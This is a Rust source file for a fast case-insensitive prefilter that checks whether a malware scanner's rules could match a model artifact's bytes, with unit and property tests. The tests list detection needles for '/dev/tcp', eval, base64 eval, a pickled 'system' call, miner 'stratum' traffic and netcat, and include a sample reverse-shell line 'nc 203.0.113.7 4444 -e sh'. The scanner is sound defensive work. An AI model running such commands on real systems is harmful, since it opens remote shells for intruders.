//! A look at bytes that says whether any built-in rule could match them at all.
//!
//! Loading the engine and its rules costs a hundred times what judging a small model costs, and nearly no honest artifact holds anything that a rule
//! looks for. So each rule is known by needles too, texts of which one stands in whatever the rule matches; where none stands, the engine is not asked.
//! The needles are derived from the rules by a test, never by hand: a rule that changes without them is not sieved.
//!
//! The search is that of Wu and Manber over pairs of bytes, without regard to ASCII case: it looks at about one byte of three. An adversary who
//! writes needles into a file gets the rules applied to it, which is what happened to every file before.

use crate::needles::Pair;

/// Bytes that needles are sorted by; none is shorter.
const START_BYTES: usize = 3;
/// Longest step; more would not help, because the shortest needle bounds it.
const WINDOW_BYTES_MAX: usize = 32;
const PAIRS: usize = 1 << 16;

/// What a region must hold for a rule to match.
#[derive(Debug)]
pub(crate) struct Sieve {
    any: Search,
    pairs: Vec<(Few, Few)>,
}

impl Sieve {
    /// Of needles in lower case, of which one must be there, and of pairs of lists, of which one each must; nothing where they cannot be looked for.
    pub(crate) fn new(any: &[&'static [u8]], pairs: &[Pair]) -> Option<Self> {
        let pairs = pairs.iter().map(|(one, other)| Some((Few::new(one)?, Few::new(other)?))).collect::<Option<_>>()?;
        Some(Self { any: Search::new(any)?, pairs })
    }

    /// True where `bytes` holds what a rule needs.
    pub(crate) fn holds(&self, bytes: &[u8]) -> bool {
        self.any.holds(bytes) || self.pairs.iter().any(|(one, other)| one.holds(bytes) && other.holds(bytes))
    }
}

/// Needles that are looked for at once.
#[derive(Debug)]
struct Search {
    /// Bytes that every needle has at least.
    window: usize,
    /// How far the end of the window may move when it stands behind a pair of bytes; 0 where a needle's window may end.
    steps: Box<[u8; PAIRS]>,
    needles: Needles,
}

impl Search {
    /// Nothing for an empty list, and for one with a needle that is too short.
    fn new(needles: &[&'static [u8]]) -> Option<Self> {
        let window = needles.iter().map(|needle| needle.len()).min()?.min(WINDOW_BYTES_MAX);
        let furthest = u8::try_from(window.checked_sub(1)?).ok()?;
        let mut steps: Box<[u8; PAIRS]> = vec![furthest; PAIRS].into_boxed_slice().try_into().ok()?;
        for needle in needles {
            for (left, pair) in needle.get(..window)?.windows(2).rev().zip(0_u8..).map(|(pair, left)| (left, pair)) {
                let [first, second] = *pair.first_chunk::<2>()?;
                for one in [first, first.to_ascii_uppercase()] {
                    for two in [second, second.to_ascii_uppercase()] {
                        let step = steps.get_mut(usize::from(u16::from_le_bytes([one, two])))?;
                        *step = left.min(*step);
                    }
                }
            }
        }
        Some(Self { window, steps, needles: Needles::new(needles)? })
    }

    /// True where a needle stands in `bytes`.
    fn holds(&self, bytes: &[u8]) -> bool {
        let mut at = self.window - 2;
        while let Some(pair) = bytes.get(at..).and_then(|rest| rest.first_chunk::<2>()) {
            match self.steps.get(usize::from(u16::from_le_bytes(*pair))) {
                Some(0) if self.needles.start(bytes.get(at + 2 - self.window..).unwrap_or_default()) => return true,
                Some(step) => at += usize::from(*step).max(1),
                None => return true,
            }
        }
        false
    }
}

/// Few needles, which are looked for by their first byte.
#[derive(Debug)]
struct Few {
    first: [bool; 256],
    needles: Needles,
}

impl Few {
    fn new(needles: &[&'static [u8]]) -> Option<Self> {
        let mut first = [false; 256];
        for needle in needles {
            let byte = *needle.first()?;
            for byte in [byte, byte.to_ascii_uppercase()] {
                *first.get_mut(usize::from(byte))? = true;
            }
        }
        Some(Self { first, needles: Needles::new(needles)? })
    }

    fn holds(&self, bytes: &[u8]) -> bool {
        let may_start = |byte: u8| self.first.get(usize::from(byte)).copied().unwrap_or(true);
        bytes.iter().enumerate().any(|(at, byte)| may_start(*byte) && self.needles.start(bytes.get(at..).unwrap_or_default()))
    }
}

/// Needles in lower case with their first bytes, in the order of those.
#[derive(Debug)]
struct Needles {
    sorted: Vec<([u8; START_BYTES], &'static [u8])>,
    /// Which sums of first bytes there are: nearly every other start is told from them at once.
    sums: Box<[bool; SUMS]>,
}

impl Needles {
    fn new(needles: &[&'static [u8]]) -> Option<Self> {
        let mut sorted = needles.iter().map(|needle| Some((*needle.first_chunk()?, *needle))).collect::<Option<Vec<_>>>()?;
        sorted.sort_unstable();
        let mut sums: Box<[bool; SUMS]> = vec![false; SUMS].into_boxed_slice().try_into().ok()?;
        for (start, _) in &sorted {
            *sums.get_mut(sum(*start))? = true;
        }
        Some(Self { sorted, sums })
    }

    /// True where one stands at the beginning of `bytes`.
    fn start(&self, bytes: &[u8]) -> bool {
        let Some(start) = bytes.first_chunk::<START_BYTES>() else { return false };
        if self.sums.get(sum(*start)) == Some(&false) {
            return false;
        }
        let start = start.map(|byte| byte.to_ascii_lowercase());
        let from = self.sorted.partition_point(|(known, _)| *known < start);
        let mut alike = self.sorted.get(from..).unwrap_or_default().iter().take_while(|(known, _)| *known == start);
        alike.any(|(_, needle)| bytes.get(..needle.len()).is_some_and(|text| text.eq_ignore_ascii_case(needle)))
    }
}

const SUMS: usize = 1 << 12;

/// The same for upper and lower case.
fn sum([one, two, three]: [u8; START_BYTES]) -> usize {
    let [one, two, three] = [one | 0x20, two | 0x20, three | 0x20].map(usize::from);
    (one ^ two << 3 ^ three << 5) % SUMS
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const NEEDLES: &[&[u8]] = &[b"eval(", b"/dev/tcp", b"\x8c\x06system", b"636f", b"val(b64"];

    #[test]
    fn needles_are_found_wherever_they_stand_and_in_any_case() {
        let sieve = Search::new(NEEDLES).unwrap();
        for needle in NEEDLES {
            for before in 0..20 {
                let text = [&vec![b'e'; before][..], &needle.to_ascii_uppercase(), b"x"].concat();
                assert!(sieve.holds(&text), "{text:?}");
                let cut = &text[..before + needle.len() - 1];
                assert!(!sieve.holds(cut), "{cut:?}");
            }
        }
        assert!(!sieve.holds(b"") && !sieve.holds(b"ev"));
    }

    #[test]
    fn lists_that_cannot_be_looked_for_are_refused() {
        assert!(Search::new(&[]).is_none() && Search::new(&[b"ab"]).is_none() && Search::new(&[b"abcdef", b""]).is_none());
    }

    #[test]
    fn of_a_pair_both_must_be_there() {
        let sieve = Sieve::new(&[b"stratum"], &[(&[b"-e ", b"-c "], &[b"nc ", b"ncat"])]).unwrap();
        assert!(sieve.holds(b"x nc 203.0.113.7 4444 -e sh") && sieve.holds(b"-c , Ncat") && sieve.holds(b"stratum"));
        assert!(!sieve.holds(b"a func of some kind") && !sieve.holds(b"perl -e print") && !sieve.holds(b""));
    }

    proptest! {
        /// The same answer as looking at every place for every needle; the letters are those of the needles, so that there is much to stumble over.
        #[test]
        fn it_answers_as_the_plain_search_does(letters in proptest::collection::vec(0_usize..24, 0..200)) {
            let alphabet = b"evalEVAL(/dtcpD\x8c\x06system";
            let text: Vec<u8> = letters.iter().filter_map(|at| alphabet.get(*at).copied()).collect();
            let folded = text.to_ascii_lowercase();
            let plain = NEEDLES.iter().any(|needle| folded.windows(needle.len()).any(|window| window == *needle));
            prop_assert_eq!(Search::new(NEEDLES).unwrap().holds(&text), plain);
        }
    }
}
